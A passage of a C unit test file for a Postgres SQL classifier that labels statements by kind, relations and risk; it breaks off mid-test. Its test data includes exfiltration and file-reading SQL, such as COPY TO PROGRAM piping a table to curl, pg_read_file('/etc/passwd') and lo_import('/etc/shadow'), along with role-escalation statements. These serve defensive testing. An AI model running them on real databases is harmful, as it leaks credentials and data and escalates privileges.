/* Unit tests for SQL classification: kinds, relations, unbounded writes, splitting, JSON, errors. */
#include <airlock/pg.h>

#include <jansson.h>
#include <stdlib.h>
#include <string.h>

#include "harness.h"

struct kcase {
	const char *sql;
	const char *kind;
	int unbounded;
	const char *relations;	/* comma-joined, in order */
};

static const struct kcase cases[] = {
	/* reads */
	{ "SELECT 1", "read", 0, "" },
	{ "SELECT * FROM t WHERE id = 1", "read", 0, "t" },
	{ "select * from t for update", "read", 0, "t" },
	{ "SELECT * FROM a JOIN s.b ON a.id = b.id WHERE a.x IN (SELECT y FROM c)", "read", 0, "a,s.b,c" },
	{ "TABLE t", "read", 0, "t" },
	{ "VALUES (1), (2)", "read", 0, "" },
	{ "EXPLAIN DELETE FROM t", "read", 0, "t" },
	{ "EXPLAIN (ANALYZE false) DELETE FROM t", "read", 0, "t" },
	{ "EXPLAIN ANALYZE SELECT * FROM t", "read", 0, "t" },
	{ "DECLARE c CURSOR FOR SELECT * FROM t", "read", 0, "t" },
	{ "FETCH 10 FROM c", "read", 0, "" },
	/* writes */
	{ "INSERT INTO t (a) VALUES (1)", "insert", 0, "t" },
	{ "INSERT INTO t SELECT * FROM u WHERE x IN (SELECT y FROM v)", "insert", 0, "t,u,v" },
	{ "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "insert", 0, "t" },
	{ "UPDATE t SET a = 1 WHERE id = 2", "update", 0, "t" },
	{ "UPDATE t SET a = 1", "update", 1, "t" },
	{ "UPDATE t SET a = u.a FROM u", "update", 1, "t,u" },
	{ "UPDATE t SET a = 1 WHERE CURRENT OF c", "update", 0, "t" },
	{ "DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "DELETE FROM public.t", "delete", 1, "public.t" },
	{ "DELETE FROM t USING u WHERE t.id = u.id", "delete", 0, "t,u" },
	{ "TRUNCATE a, b", "delete", 1, "a,b" },
	{ "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge", 0, "t,s" },
	/* a condition that mentions no column takes every row or none: unbounded */
	{ "DELETE FROM logs WHERE true", "delete", 1, "logs" },
	{ "UPDATE logs SET n = 0 WHERE 1 = 1", "update", 1, "logs" },
	{ "DELETE FROM t WHERE 'a' = 'a'", "delete", 1, "t" },
	{ "DELETE FROM t WHERE NOT false", "delete", 1, "t" },
	{ "DELETE FROM t WHERE 1 = 2", "delete", 1, "t" },
	{ "DELETE FROM t WHERE $1", "delete", 1, "t" },
	{ "DELETE FROM t WHERE EXISTS (SELECT 1)", "delete", 1, "t" },
	{ "DELETE FROM t WHERE id = 5 OR true", "delete", 1, "t" },
	{ "DELETE FROM t WHERE (id = 5 OR x = 2) OR 2 > 1", "delete", 1, "t" },
	{ "DELETE FROM t WHERE NOT (id = 5 AND false)", "delete", 1, "t" },
	{ "UPDATE t SET a = 1 WHERE (id = 1 OR true) AND (x = 2 OR 1 = 1)", "update", 1, "t" },
	{ "WITH d AS (DELETE FROM t WHERE true RETURNING *) SELECT * FROM d", "delete", 1, "t" },
	{ "DELETE FROM t WHERE id = 5 AND true", "delete", 0, "t" },
	{ "DELETE FROM t WHERE id = 5 AND NOT false", "delete", 0, "t" },
	{ "DELETE FROM t WHERE NOT (id = 5 OR false)", "delete", 0, "t" },
	{ "DELETE FROM t WHERE id IN (SELECT id FROM u)", "delete", 0, "t,u" },
	{ "MERGE INTO logs l USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE", "merge", 1, "logs" },
	{ "MERGE INTO t USING s ON t.id = s.id OR true WHEN MATCHED THEN UPDATE SET a = 1", "merge", 1, "t,s" },
	{ "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED AND t.id = 5 THEN UPDATE SET a = 1", "merge", 0, "t,s" },
	{ "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)", "merge", 0, "t,s" },
	/* writing CTEs: a SELECT that writes is the write */
	{ "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "delete", 1, "t" },
	{ "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u", "update", 0, "t" },
	{ "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "insert", 0, "t" },
	{ "WITH a AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) INSERT INTO l SELECT * FROM a", "update", 0, "t,l" },
	{ "SELECT * FROM (WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d) s", "delete", 0, "t" },
	{ "EXPLAIN ANALYZE DELETE FROM t", "delete", 1, "t" },
	{ "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2", "update", 0, "t" },
	{ "EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)", "insert", 0, "t" },
	/* the last ANALYZE wins, read as defGetBoolean reads it; a value it refuses counts as on */
	{ "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "EXPLAIN (ANALYZE off, VERBOSE, analyze) DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM t WHERE id = 1", "read", 0, "t" },
	{ "EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1", "read", 0, "t" },
	{ "EXPLAIN (ANALYZE 'TRUE') DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "EXPLAIN (ANALYZE OFF) DELETE FROM t WHERE id = 1", "read", 0, "t" },
	{ "EXPLAIN (ANALYZE yes) DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "EXPLAIN (ANALYZE 0.0) DELETE FROM t WHERE id = 1", "delete", 0, "t" },
	{ "PREPARE p (int) AS DELETE FROM t WHERE id = $1", "delete", 0, "t" },
	{ "PREPARE q AS SELECT * FROM t", "read", 0, "t" },
	{ "COPY (DELETE FROM t RETURNING *) TO STDOUT", "delete", 1, "t" },
	/* ddl */
	{ "CREATE TABLE t (a int)", "ddl", 0, "t" },
	{ "DROP TABLE a.b, c", "ddl", 0, "a.b,c" },
	{ "DROP VIEW IF EXISTS v", "ddl", 0, "v" },
	{ "ALTER TABLE t ADD COLUMN b int", "ddl", 0, "t" },
	{ "CREATE INDEX i ON t (a)", "ddl", 0, "t" },
	{ "SELECT a INTO newt FROM old", "ddl", 0, "newt,old" },
	{ "CREATE TABLE n AS SELECT * FROM o", "ddl", 0, "o,n" },
	{ "CREATE MATERIALIZED VIEW mv AS SELECT * FROM o", "ddl", 0, "o,mv" },
	{ "ALTER SYSTEM SET work_mem = '1MB'", "ddl", 0, "" },
	{ "CREATE EXTENSION pgcrypto", "ddl", 0, "" },
	{ "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "ddl", 0, "" },
	{ "LOAD 'auto_explain'", "ddl", 0, "" },
	{ "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM x", "ddl", 0, "t,x" },
	{ "REFRESH MATERIALIZED VIEW mv", "ddl", 0, "mv" },
	/* dcl */
	{ "GRANT SELECT ON t TO bob", "dcl", 0, "t" },
	{ "REVOKE ALL ON t FROM bob", "dcl", 0, "t" },
	{ "GRANT admin TO bob", "dcl", 0, "" },
	{ "CREATE ROLE r LOGIN PASSWORD 'x'", "dcl", 0, "" },
	{ "ALTER ROLE bob WITH SUPERUSER", "dcl", 0, "" },
	{ "ALTER USER bob SET search_path = x", "dcl", 0, "" },
	{ "ALTER ROLE x RENAME TO y", "dcl", 0, "" },
	{ "DROP ROLE bob", "dcl", 0, "" },
	{ "SET ROLE postgres", "dcl", 0, "" },
	{ "SET LOCAL ROLE postgres", "dcl", 0, "" },
	{ "SET \"ROLE\" = 'postgres'", "dcl", 0, "" },
	{ "RESET ROLE", "dcl", 0, "" },
	{ "SET SESSION AUTHORIZATION bob", "dcl", 0, "" },
	{ "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "dcl", 0, "" },
	/* transactions */
	{ "BEGIN", "transaction", 0, "" },
	{ "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", 0, "" },
	{ "COMMIT", "transaction", 0, "" },
	{ "ROLLBACK", "transaction", 0, "" },
	{ "SAVEPOINT s1", "transaction", 0, "" },
	{ "ROLLBACK TO SAVEPOINT s1", "transaction", 0, "" },
	{ "RELEASE s1", "transaction", 0, "" },
	{ "SET TRANSACTION READ ONLY", "transaction", 0, "" },
	/* copy */
	{ "COPY t FROM STDIN", "copy", 0, "t" },
	{ "COPY t (a, b) TO STDOUT WITH (FORMAT csv)", "copy", 0, "t" },
	{ "COPY (SELECT * FROM t) TO STDOUT", "copy", 0, "t" },
	{ "COPY t TO PROGRAM 'curl -d @- http://x'", "copy_program", 0, "t" },
	{ "COPY t FROM PROGRAM 'id'", "copy_program", 0, "t" },
	{ "COPY t FROM '/etc/passwd'", "copy_program", 0, "t" },
	{ "COPY t TO '/tmp/x'", "copy_program", 0, "t" },
	/* do / call */
	{ "DO $$ BEGIN DELETE FROM t; END $$", "do", 0, "" },
	{ "CALL p(1)", "call", 0, "" },
	/* utility */
	{ "SET search_path = app", "utility", 0, "" },
	{ "SHOW work_mem", "utility", 0, "" },
	{ "RESET ALL", "utility", 0, "" },
	{ "VACUUM ANALYZE t", "utility", 0, "t" },
	{ "LISTEN ch", "utility", 0, "" },
	{ "NOTIFY ch, 'x'", "utility", 0, "" },
	{ "DISCARD ALL", "utility", 0, "" },
	{ "EXECUTE p(1)", "utility", 0, "" },
	{ "DEALLOCATE p", "utility", 0, "" },
	{ "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "utility", 0, "t" },
	{ "CHECKPOINT", "utility", 0, "" },
	{ "CLOSE c", "utility", 0, "" },
	/* side-effect functions make a read something else */
	{ "SELECT set_config('role', 'postgres', false)", "dcl", 0, "" },
	{ "SELECT pg_catalog.set_config('ROLE', 'postgres', false)", "dcl", 0, "" },
	{ "SELECT set_config(name, 'x', false) FROM t", "dcl", 0, "t" },
	{ "SELECT set_config('search_path', 'x', false)", "utility", 0, "" },
	{ "SELECT pg_read_file('/etc/passwd')", "copy_program", 0, "" },
	{ "SELECT * FROM t WHERE a = (SELECT lo_import('/etc/shadow'))", "copy_program", 0, "t,pg_catalog.pg_largeobject" },
	{ "COPY (SELECT pg_read_file('x')) TO STDOUT", "copy_program", 0, "" },
	{ "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "utility", 0, "pg_stat_activity" },
	{ "SELECT myschema.pg_read_file('x')", "read", 0, "" },
	{ "SELECT count(*), now() FROM t", "read", 0, "t" },
	/* ...and any other statement: the most dangerous wins; a utility function leaves a write */
	{ "INSERT INTO logs SELECT length(set_config('role', 'admin_role', false))", "dcl", 0, "logs" },
	{ "INSERT INTO logs SELECT pg_read_file('PG_VERSION')::int RETURNING n", "copy_program", 0, "logs" },
	{ "UPDATE t SET a = pg_read_file('x') WHERE id = 1", "copy_program", 0, "t" },
	{ "DELETE FROM t WHERE id = (SELECT set_config('role', 'x', false))::int", "dcl", 0, "t" },
	{ "DELETE FROM t WHERE pg_terminate_backend(1)", "delete", 1, "t" },
	{ "CALL p(set_config('role', 'x', false))", "dcl", 0, "" },
	{ "CREATE TABLE x AS SELECT set_config('role', 'x', false)", "dcl", 0, "x" },
	{ "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'", "dcl", 0, "pg_settings" },
	/* three-part and quoted names reach the built-ins; another schema's function does not */
	{ "SELECT airtest.pg_catalog.pg_read_file('PG_VERSION')", "copy_program", 0, "" },
	{ "SELECT airtest.pg_catalog.set_config('role', 'admin_role', false)", "dcl", 0, "" },
	{ "SELECT \"pg_catalog\".\"set_config\"('role', 'x', false)", "dcl", 0, "" },
	{ "SELECT myschema.query_to_xml('x')", "read", 0, "" },
	/* functions that run SQL text: a DO Airlock cannot read, relations unknown ("*") */
	{ "SELECT query_to_xml('select v from secrets', true, false, '')", "do", 0, "*" },
	{ "SELECT pg_catalog.query_to_xml_and_xmlschema('select 1', true, false, '')", "do", 0, "*" },
	{ "SELECT cursor_to_xml('c', 10, true, false, '')", "do", 0, "*" },
	{ "SELECT ts_stat('select v from secrets')", "do", 0, "*" },
	{ "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", "do", 0, "*" },
	{ "SELECT * FROM public.dblink('dbname=x', 'select 1') AS t(a int)", "do", 0, "*" },
	{ "INSERT INTO t SELECT * FROM dblink('dbname=x', 'select 1') AS r(a int)", "do", 0, "t,*" },
	/* tables named by text: a read of relations unknown */
	{ "SELECT table_to_xml('secrets', true, false, '')", "read", 0, "*" },
	{ "SELECT * FROM t, table_to_xmlschema('secrets', true, false, '') x", "read", 0, "t,*" },
	{ "SELECT schema_to_xml('public', true, false, '')", "read", 0, "*" },
	{ "SELECT database_to_xml(true, false, '')", "read", 0, "*" },
	/* large objects: the write they are, on pg_largeobject */
	{ "SELECT lo_from_bytea(424242, 'x')", "insert", 0, "pg_catalog.pg_largeobject" },
	{ "SELECT lo_create(0)", "insert", 0, "pg_catalog.pg_largeobject" },
	{ "SELECT lo_put(1, 0, 'x')", "update", 0, "pg_catalog.pg_largeobject" },
	{ "SELECT lo_unlink(424242)", "delete", 0, "pg_catalog.pg_largeobject" },
	{ "SELECT pg_file_write('x', 'y', false)", "copy_program", 0, "" },
	{ "SELECT pg_stat_reset()", "utility", 0, "" },
	/* sequences: nextval and setval update the sequence their argument names, as regclass
	 * input reads a string; what they cannot name surely is "*"; currval and lastval read */
	{ "SELECT nextval('s')", "update", 0, "s" },
	{ "SELECT setval('s', 1)", "update", 0, "s" },
	{ "SELECT setval('public.s', 1, false)", "update", 0, "public.s" },
	{ "SELECT pg_catalog.nextval('Public.\"My Seq\"'::regclass)", "update", 0, "public.\"My Seq\"" },
	{ "SELECT nextval(regclass ' db . Sch . s ')", "update", 0, "db.sch.s" },
	{ "SELECT nextval('\"a\"\"b\"')", "update", 0, "\"a\"\"b\"" },
	{ "SELECT * FROM nextval('s')", "update", 0, "s" },
	{ "INSERT INTO t (id, a) VALUES (nextval('t_id_seq'), 1)", "update", 0, "t,t_id_seq" },
	{ "UPDATE t SET id = nextval('s') WHERE id = 1", "update", 0, "t,s" },
	{ "DELETE FROM t WHERE id = setval('s', 5)", "delete", 0, "t,s" },
	{ "SELECT setval(pg_get_serial_sequence('t', 'id'), 1) FROM t", "update", 0, "*,t" },
	{ "SELECT nextval(16384)", "update", 0, "*" },
	{ "SELECT nextval('16384')", "update", 0, "*" },
	{ "SELECT nextval($1)", "update", 0, "*" },
	{ "SELECT nextval('a.b.c.d')", "update", 0, "*" },
	{ "SELECT nextval('\"\"')", "update", 0, "*" },
	{ "SELECT nextval('s x')", "update", 0, "*" },
	{ "SELECT nextval('s\xc3\xa9')", "update", 0, "*" },
	{ "SELECT nextval('s_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')", "update", 0, "*" },
	{ "CREATE TABLE x AS SELECT setval('s', 5)", "ddl", 0, "s,x" },
	{ "SELECT currval('s'), lastval()", "read", 0, "" },
	{ "SELECT myschema.nextval('s')", "read", 0, "" },
	/* a column default's nextval is the server's, not the statement's */
	{ "INSERT INTO t DEFAULT VALUES", "insert", 0, "t" },
	{ "INSERT INTO t (a) VALUES (DEFAULT)", "insert", 0, "t" },
	/* relations: CTE names are not relations, but only where they are in scope */
	{ "WITH x AS (SELECT 1) SELECT * FROM x", "read", 0, "" },
	{ "WITH users AS (SELECT * FROM users) SELECT * FROM users", "read", 0, "users" },
	{ "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT * FROM r", "read", 0, "" },
	{ "SELECT * FROM users, (WITH users AS (SELECT 1) SELECT * FROM users) s", "read", 0, "users" },
	{ "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, c", "read", 0, "c" },
	{ "WITH x AS (SELECT 1) SELECT * FROM s.x", "read", 0, "s.x" },
	{ "SELECT * FROM t t1 JOIN t t2 ON true", "read", 0, "t" },
	{ "SELECT * FROM \"My Table\", \"a.b\", Upper, db.s.t", "read", 0, "\"My Table\",\"a.b\",upper,db.s.t" },
	{ "SELECT * FROM \"q\"\"x\"", "read", 0, "\"q\"\"x\"" },
	{ "SELECT (SELECT max(a) FROM s) FROM t WHERE EXISTS (SELECT 1 FROM u)", "read", 0, "s,t,u" },
};

static void join_relations(const struct pg_stmt *st, char *buf, size_t len)
{
	size_t off = 0;

	buf[0] = 0;
	for (size_t i = 0; i < st->n_relations; i++) {
		int n = snprintf(buf + off, len - off, "%s%s", i ? "," : "", st->relations[i]);

		if (n < 0 || (size_t)n >= len - off)
			return;
		off += (size_t)n;
	}
}

/* sql classified into exactly one statement, in *l: 0. Else the test fails, saying why: -1. */
static int classify_one(const char *sql, struct pg_stmt_list *l)
{
	char err[256];

	if (pg_classify(sql, l, err, sizeof(err))) {
		printf("#   %s: %s\n", sql, err);
		CHECK(0);
		return -1;
	}
	if (l->n != 1) {
		printf("#   %s: %zu statements\n", sql, l->n);
		CHECK(0);
		pg_stmt_list_free(l);
		return -1;
	}
	return 0;
}

static void test_kind_table(void)
{
	for (size_t i = 0; i < AL_ARRAY_LEN(cases); i++) {
		const struct kcase *c = &cases[i];
		struct pg_stmt_list l;
		char rels[512];

		if (classify_one(c->sql, &l) < 0)
			continue;
		join_relations(&l.stmts[0], rels, sizeof(rels));
		if (strcmp(pg_kind_name(l.stmts[0].kind), c->kind) || l.stmts[0].unbounded_write != c->unbounded ||
		    strcmp(rels, c->relations)) {
			printf("#   %s: got %s unbounded=%d [%s], want %s unbounded=%d [%s]\n", c->sql,
			       pg_kind_name(l.stmts[0].kind), l.stmts[0].unbounded_write, rels, c->kind,
			       c->unbounded, c->relations);
			CHECK(0);
		}
		CHECK(strlen(l.stmts[0].fingerprint) == PG_FINGERPRINT_LEN);
		pg_stmt_list_free(&l);
	}
}

static void test_multi_statement_split(void)
{
	const char *sql = "  SELECT 1;\n-- note\nUPDATE t SET a = ';' WHERE b = 2 ;; select 'x;y' /* ; */ ;\nDELETE FROM u  ";
	struct pg_stmt_list l;
	char err[256];

	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0);
	CHECK(l.n == 4);
	if (l.n == 4) {
		CHECK_STR(l.stmts[0].text, "SELECT 1");
		CHECK(l.stmts[0].location == 2 && l.stmts[0].len == 8);
		CHECK_STR(l.stmts[1].text, "-- note\nUPDATE t SET a = ';' WHERE b = 2");
		CHECK(l.stmts[1].kind == PG_KIND_UPDATE && !l.stmts[1].unbounded_write);
		CHECK_STR(l.stmts[2].text, "select 'x;y' /* ; */");
		CHECK(l.stmts[2].kind == PG_KIND_READ);
		CHECK_STR(l.stmts[3].text, "DELETE FROM u");
		CHECK(l.stmts[3].kind == PG_KIND_DELETE && l.stmts[3].unbounded_write);
		for (size_t i = 0; i < l.n; i++)
			CHECK(!strncmp(sql + l.stmts[i].location, l.stmts[i].text, (size_t)l.stmts[i].len));
	}
	pg_stmt_list_free(&l);
}

static void test_empty_and_comment_only(void)
{
	struct pg_stmt_list l;
	char err[64];

	CHECK(pg_classify("", &l, err, sizeof(err)) == 0 && l.n == 0);
	pg_stmt_list_free(&l);
	CHECK(pg_classify("  -- nothing\n /* here */ ;", &l, err, sizeof(err)) == 0 && l.n == 0);
	pg_stmt_list_free(&l);
}

static void test_fingerprints(void)
{
	struct pg_stmt_list l;
	char err[64];

	/* Constants do not change the fingerprint; the statement shape does. */
	CHECK(pg_classify("SELECT * FROM t WHERE a = 1; select * FROM t where a = 42; SELECT * FROM u WHERE a = 1",
			  &l, err, sizeof(err)) == 0);
	CHECK(l.n == 3);
	if (l.n == 3) {
		CHECK_STR(l.stmts[0].fingerprint, l.stmts[1].fingerprint);
		CHECK(strcmp(l.stmts[0].fingerprint, l.stmts[2].fingerprint) != 0);
	}
	pg_stmt_list_free(&l);
}

static void test_prepared_names(void)
{
	struct pg_stmt_list l;
	char err[64];

	CHECK(pg_classify("PREPARE p AS DELETE FROM t; EXECUTE p; DEALLOCATE p; DEALLOCATE ALL; SELECT 1; "
			  "DISCARD ALL; DISCARD PLANS", &l, err, sizeof(err)) == 0);
	CHECK(l.n == 7);
	if (l.n == 7) {
		static const enum pg_prep_op ops[] = { PG_PREP_PREPARE, PG_PREP_EXECUTE, PG_PREP_DEALLOCATE,
						       PG_PREP_DEALLOCATE, PG_PREP_NONE, PG_PREP_DISCARD_ALL,
						       PG_PREP_NONE };
		struct pg_stmt copy;

		CHECK_STR(l.stmts[0].prepared_name, "p");
		CHECK_STR(l.stmts[1].prepared_name, "p");
		CHECK_STR(l.stmts[2].prepared_name, "p");
		CHECK(l.stmts[3].prepared_name == NULL);
		CHECK(l.stmts[4].prepared_name == NULL);
		for (size_t i = 0; i < 7; i++)
			CHECK(l.stmts[i].prep_op == ops[i]);
		/* PREPARE takes its statement's kind; a copy is whole and its own. */
		CHECK(l.stmts[0].kind == PG_KIND_DELETE);
		CHECK(pg_stmt_copy(&copy, &l.stmts[0]) == 0);
		CHECK(copy.text != l.stmts[0].text && strcmp(copy.text, l.stmts[0].text) == 0);
		CHECK(copy.n_relations == 1 && strcmp(copy.relations[0], "t") == 0 &&
		      copy.relations != l.stmts[0].relations);
		CHECK_STR(copy.prepared_name, "p");
		CHECK(copy.prep_op == PG_PREP_PREPARE && strcmp(copy.fingerprint, l.stmts[0].fingerprint) == 0);
		pg_stmt_clear(&copy);
	}
	pg_stmt_list_free(&l);
}

/* An EXECUTE inside EXPLAIN or CREATE TABLE AS names its statement as a bare one does; FETCH
 * and MOVE name the portal they run, folded as the server folds it. */
static void test_execute_and_portal_names(void)
{
	static const struct {
		const char *sql, *prepared, *portal;
		enum pg_prep_op op;
		enum pg_kind kind;
	} c[] = {
		{ "EXPLAIN EXECUTE d(1)", "d", NULL, PG_PREP_EXECUTE, PG_KIND_READ },
		{ "EXPLAIN ANALYZE EXECUTE d", "d", NULL, PG_PREP_EXECUTE, PG_KIND_UTILITY },
		{ "EXPLAIN (ANALYZE, BUFFERS off) EXECUTE \"D\"", "D", NULL, PG_PREP_EXECUTE, PG_KIND_UTILITY },
		{ "CREATE TEMP TABLE x AS EXECUTE d", "d", NULL, PG_PREP_EXECUTE, PG_KIND_DDL },
		{ "EXPLAIN ANALYZE CREATE TABLE x AS EXECUTE d", "d", NULL, PG_PREP_EXECUTE, PG_KIND_DDL },
		{ "EXPLAIN SELECT 1", NULL, NULL, PG_PREP_NONE, PG_KIND_READ },
		{ "FETCH ALL FROM p", NULL, "p", PG_PREP_NONE, PG_KIND_READ },
		{ "FETCH c", NULL, "c", PG_PREP_NONE, PG_KIND_READ },
		{ "fetch backward all in MyCur", NULL, "mycur", PG_PREP_NONE, PG_KIND_READ },
		{ "FETCH ABSOLUTE -1 FROM \"My Cur\"", NULL, "My Cur", PG_PREP_NONE, PG_KIND_READ },
		{ "MOVE 5 IN c", NULL, "c", PG_PREP_NONE, PG_KIND_READ },
		{ "MOVE LAST FROM c", NULL, "c", PG_PREP_NONE, PG_KIND_READ },
		{ "CLOSE c", NULL, NULL, PG_PREP_NONE, PG_KIND_UTILITY },
	};

	for (size_t i = 0; i < AL_ARRAY_LEN(c); i++) {
		struct pg_stmt_list l;
		struct pg_stmt copy;
		const struct pg_stmt *st;

		if (classify_one(c[i].sql, &l) < 0)
			continue;
		st = &l.stmts[0];
		if (!((!c[i].prepared && !st->prepared_name) ||
		      (c[i].prepared && st->prepared_name && !strcmp(c[i].prepared, st->prepared_name))) ||
		    !((!c[i].portal && !st->portal_name) ||
		      (c[i].portal && st->portal_name && !strcmp(c[i].portal, st->portal_name))) ||
		    st->prep_op != c[i].op || st->kind != c[i].kind) {
			printf("#   %s: prepared %s portal %s op %d kind %s\n", c[i].sql,
			       st->prepared_name ? st->prepared_name : "-", st->portal_name ? st->portal_name : "-",
			       st->prep_op, pg_kind_name(st->kind));
			CHECK(0);
		}
		CHECK(pg_stmt_copy(&copy, st) == 0);
		CHECK((!st->portal_name && !copy.portal_name) ||
		      (copy.portal_name && copy.portal_name != st->portal_name && !strcmp(copy.portal_name, st->portal_name)));
		pg_stmt_clear(&copy);
		pg_stmt_list_free(&l);
	}
}

/* Statements that change how the server reads the next ones are unsafe_setting. */
static void test_unsafe_settings(void)
{
	static const struct {
		const char *sql;
		int unsafe;
	} c[] = {
		{ "SET standard_conforming_strings = off", 1 },
		{ "SET standard_conforming_strings TO 0", 1 },
		{ "SET LOCAL standard_conforming_strings = false", 1 },
		{ "SET SESSION standard_conforming_strings = 'of'", 1 },
		{ "SET \"Standard_Conforming_Strings\" = off", 1 },
		{ "RESET standard_conforming_strings", 1 },
		{ "SET standard_conforming_strings TO DEFAULT", 1 },
		{ "SET client_encoding = 'SJIS'", 1 },
		{ "SET client_encoding TO 'big5'", 1 },
		{ "SET NAMES 'GBK'", 1 },
		{ "SET NAMES 'shift_jis_2004'", 1 },
		{ "SET NAMES DEFAULT", 1 },
		{ "RESET client_encoding", 1 },
		{ "SET backslash_quote = on", 1 },
		{ "SET backslash_quote = true", 1 },
		{ "SELECT set_config('standard_conforming_strings', 'off', false)", 1 },
		{ "SELECT pg_catalog.set_config('client_encoding', 'SJIS', true)", 1 },
		{ "SELECT airtest.pg_catalog.set_config('client_encoding', 'SJIS', false)", 1 },
		{ "SELECT set_config(new_value => 'off', setting_name => 'standard_conforming_strings', is_local => false)", 1 },
		{ "SELECT set_config('standard_conforming_strings'::text, 'off'::text, false)", 1 },
		{ "SELECT set_config('standard_conforming_strings', v, false) FROM t", 1 },
		{ "SELECT set_config(n, 'on', false) FROM t", 1 },
		{ "INSERT INTO logs SELECT length(set_config('client_encoding', 'SJIS', false))", 1 },
		{ "UPDATE t SET a = 1 WHERE b = (SELECT set_config('backslash_quote', 'on', false))", 1 },
		{ "WITH x AS (SELECT set_config('standard_conforming_strings', 'off', false)) SELECT * FROM x", 1 },
		{ "PREPARE p AS SELECT set_config('standard_conforming_strings', 'off', false)", 1 },
		{ "COPY (SELECT set_config('standard_conforming_strings', 'off', false)) TO STDOUT", 1 },
		{ "CALL p(set_config('client_encoding', 'SJIS', false))", 1 },
		{ "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", 1 },
		{ "UPDATE pg_catalog.pg_settings SET setting = 'off'", 1 },
		{ "ALTER ROLE app SET standard_conforming_strings = on", 1 },
		{ "ALTER ROLE app IN DATABASE d SET client_encoding = 'UTF8'", 1 },
		{ "ALTER DATABASE d SET backslash_quote = off", 1 },
		{ "ALTER DATABASE d RESET ALL", 1 },
		{ "ALTER USER app RESET client_encoding", 1 },
		{ "ALTER SYSTEM SET standard_conforming_strings = off", 1 },
		{ "ALTER SYSTEM RESET ALL", 1 },
		/* a value that keeps the reading, or another setting */
		{ "SET standard_conforming_strings = on", 0 },
		{ "SET standard_conforming_strings TO 1", 0 },
		{ "SET standard_conforming_strings = true", 0 },
		{ "SET client_encoding = 'UTF8'", 0 },
		{ "SET NAMES 'utf-8'", 0 },
		{ "SET client_encoding TO 'LATIN1'", 0 },
		{ "SET client_encoding = 'EUC_JP'", 0 },
		{ "SET backslash_quote = safe_encoding", 0 },
		{ "SET backslash_quote = off", 0 },
		{ "SELECT set_config('standard_conforming_strings', 'on', false)", 0 },
		{ "SELECT set_config('search_path', 'x', false)", 0 },
		{ "RESET ALL", 0 },
		{ "DISCARD ALL", 0 },
		{ "SET search_path = x", 0 },
		{ "ALTER ROLE app SET search_path = x", 0 },
		{ "SHOW standard_conforming_strings", 0 },
		{ "UPDATE settings SET v = 1 WHERE id = 2", 0 },
	};

	for (size_t i = 0; i < AL_ARRAY_LEN(c); i++) {
		struct pg_stmt_list l;

		if (classify_one(c[i].sql, &l) < 0)
			continue;
		if (l.stmts[0].unsafe_setting != c[i].unsafe) {
			printf("#   %s: unsafe_setting %d, want %d\n", c[i].sql, l.stmts[0].unsafe_setting, c[i].unsafe);
			CHECK(0);
		}
		pg_stmt_list_free(&l);
	}
}

/* grant_exact: a grant covers the exact text when the fingerprint hides what decides the effect. */
static void test_grant_exact(void)
{
	static const struct {
		const char *sql;
		int exact;
	} c[] = {
		{ "DO $$ BEGIN PERFORM 1; END $$", 1 },
		{ "DO $$ BEGIN DELETE FROM items WHERE id > 3; EXECUTE 'DROP TABLE other.items'; END $$", 1 },
		{ "CALL p(1)", 1 },
		{ "SET search_path = x", 1 },
		{ "SET LOCAL work_mem = '1MB'", 1 },
		{ "RESET ALL", 1 },
		{ "SET client_encoding = 'SJIS'", 1 },
		{ "SELECT set_config('search_path', 'x', false)", 1 },
		{ "SELECT pg_terminate_backend(123)", 1 },
		{ "SELECT lo_unlink(1)", 1 },
		{ "SELECT query_to_xml('select 1', true, false, '')", 1 },
		{ "SELECT table_to_xml('t', true, false, '')", 1 },
		{ "INSERT INTO t SELECT pg_read_file('x')", 1 },
		{ "UPDATE pg_settings SET setting = 'x' WHERE name = 'y'", 1 },
		{ "SELECT nextval('s')", 1 },
		{ "SELECT setval('s', 10)", 1 },
		{ "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 1 },
		{ "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$", 1 },
		{ "ALTER FUNCTION f() SET search_path = x", 1 },
		{ "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", 1 },
		{ "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", 1 },
		{ "CREATE POLICY p ON t USING (tenant = 5)", 1 },
		{ "ALTER POLICY p ON t USING (true)", 1 },
